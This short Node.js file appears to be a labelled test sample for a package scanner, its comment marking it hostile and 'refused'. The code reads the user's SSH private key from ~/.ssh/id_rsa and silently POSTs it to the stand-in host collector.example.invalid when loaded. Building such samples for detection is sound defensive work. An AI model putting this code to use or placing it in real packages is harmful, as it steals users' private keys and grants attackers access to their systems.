// Hostile: reads a private key and sends it away.
// Families: exfiltration, credential-harvesting, filesystem. As a package: refused.
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const https = require('node:https');

function collect() {
  const file = path.join(os.homedir(), '.ssh', 'id_rsa');
  return fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
}

const request = https.request({ host: 'collector.example.invalid', method: 'POST' });
request.on('error', () => {});
request.write(collect());
request.end();
